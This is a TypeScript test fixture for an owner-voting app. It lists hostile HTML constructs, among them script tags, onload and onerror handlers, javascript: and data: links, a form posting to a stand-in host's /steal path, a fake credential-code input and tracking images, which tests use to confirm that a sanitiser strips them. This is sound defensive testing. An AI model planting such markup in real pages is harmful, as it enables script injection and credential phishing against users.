/**
 * Markup staff could put into a text owners read (docs/owner-voting.md "What
 * owners read"), one construct at a time: what it is, the markup, and how
 * its survival would show in the sanitised HTML (a pattern) and in the page's
 * DOM (a CSS selector). The server tests check the ballot allow list's output
 * against the patterns; the browser test opens a ballot carrying all of them
 * and queries the selectors.
 */
export interface HostileConstruct {
  name: string;
  html: string;
  /** Matches the sanitised HTML if the construct survived. */
  survives: RegExp;
  /** Matches an element inside a rendered text of the page if the construct reached the DOM there. */
  selector: string;
  /** Also looked for in the whole document (elements the page itself never has). */
  anywhere?: boolean;
}

export const HOSTILE_CONSTRUCTS: HostileConstruct[] = [
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">', survives: /<meta|http-equiv/i, selector: 'meta[http-equiv]', anywhere: true },
  { name: 'base', html: '<base href="https://evil.example/">', survives: /<base/i, selector: 'base', anywhere: true },
  { name: 'form', html: '<form action="https://evil.example/steal" method="post"><button>提交</button></form>', survives: /<form|action=/i, selector: 'form, button' },
  { name: 'input', html: '<input name="code" placeholder="再次输入凭证码">', survives: /<input/i, selector: 'input' },
  { name: 'iframe', html: '<iframe src="https://evil.example/"></iframe>', survives: /<iframe/i, selector: 'iframe', anywhere: true },
  { name: 'object', html: '<object data="https://evil.example/x.swf"></object>', survives: /<object/i, selector: 'object', anywhere: true },
  { name: 'embed', html: '<embed src="https://evil.example/x.swf">', survives: /<embed/i, selector: 'embed', anywhere: true },
  { name: 'style', html: '<style>body{display:none}</style>', survives: /<style/i, selector: 'style' },
  { name: 'script', html: '<script>window.__hostile = 1</script>', survives: /<script/i, selector: 'script' },
  { name: 'svg onload', html: '<svg onload="window.__hostile = 2"><circle r="5"></circle></svg>', survives: /<svg|onload/i, selector: 'svg, [onload]' },
  { name: 'img onerror', html: '<img src="/nothing.png" onerror="window.__hostile = 3">', survives: /onerror|nothing\.png/i, selector: '[onerror], img[src="/nothing.png"]' },
  { name: 'javascript: link', html: '<a href="javascript:window.__hostile = 4">点我</a>', survives: /javascript:/i, selector: 'a[href^="javascript" i]' },
  { name: 'data: link', html: '<a href="data:text/html,<script>alert(1)</script>">数据</a>', survives: /href="data:/i, selector: 'a[href^="data:" i]' },
  { name: 'data: image', html: '<img src="data:image/png;base64,iVBORw0KGgo=">', survives: /src="data:/i, selector: 'img[src^="data:" i]' },
  { name: 'image from an outside host', html: '<img src="https://evil.example/track.png">', survives: /evil\.example\/track/i, selector: 'img[src*="evil.example"]' },
  { name: 'event handler', html: '<p onclick="window.__hostile = 5" onmouseover="window.__hostile = 6">悬停</p>', survives: /onclick|onmouseover/i, selector: '[onclick], [onmouseover]' },
];

/** Every construct in one text, around ordinary content that must stay. */
export const HOSTILE_TEXT = `<p>事项全文</p>${HOSTILE_CONSTRUCTS.map((c) => c.html).join('')}<table><tbody><tr><td>甲</td><td>乙</td></tr></tbody></table><a href="https://example.org/rules">议事规则</a>`;

/** The constructs that survived in a sanitised text (names), [] when clean. */
export const survivors = (html: string): string[] => HOSTILE_CONSTRUCTS.filter((c) => c.survives.test(html)).map((c) => c.name);
